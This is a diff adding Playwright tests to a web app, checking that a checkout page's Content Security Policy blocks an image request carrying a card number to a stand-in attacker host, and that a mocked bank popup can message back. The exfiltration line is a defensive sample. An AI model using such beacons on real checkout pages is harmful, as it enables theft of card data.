@@ -37,6 +37,47 @@ test('a script that is injected into the page does not run', async ({ page }) =>
   expect(outcome).toBe('refused');
 });
 
+test('a checkout sends nothing away as the address of a picture, and shows those of its event', async ({
+  page,
+}) => {
+  const asked: string[] = [];
+  await page.route('https://thief.test/**', (route) => {
+    asked.push(route.request().url());
+    return route.abort();
+  });
+  await page.goto('/events/harbor/checkout');
+  await expect(page.getByRole('img').first()).toHaveJSProperty('complete', true);
+  const refused = await page.evaluate(async () => {
+    const violated = new Promise((resolve) => {
+      document.addEventListener('securitypolicyviolation', (violation) =>
+        resolve(`${violation.effectiveDirective} ${new URL(violation.blockedURI).host}`),
+      );
+    });
+    new Image().src = 'https://thief.test/?card=4111';
+    return violated;
+  });
+  expect(refused).toBe('img-src thief.test');
+  expect(asked).toEqual([]);
+});
+
+test('a window that a checkout opens for a bank or a wallet answers it', async ({ page }) => {
+  const body = '<script>opener.postMessage("confirmed", "*")</script>';
+  await page
+    .context()
+    .route('https://bank.test/', (route) => route.fulfill({ contentType: 'text/html', body }));
+  await page.goto('/events/stripe-paid/checkout');
+  const answer = await page.evaluate(() => {
+    const heard = new Promise((resolve) => {
+      window.addEventListener('message', ({ origin, data }) => {
+        if (origin === 'https://bank.test') resolve(data);
+      });
+    });
+    window.open('https://bank.test/', 'bank', 'width=450,height=535');
+    return heard;
+  });
+  expect(answer).toBe('confirmed');
+});
+
 test('header and footer lead to the provider', async ({ page }) => {
   await page.goto('/');
   for (const [name, address] of [
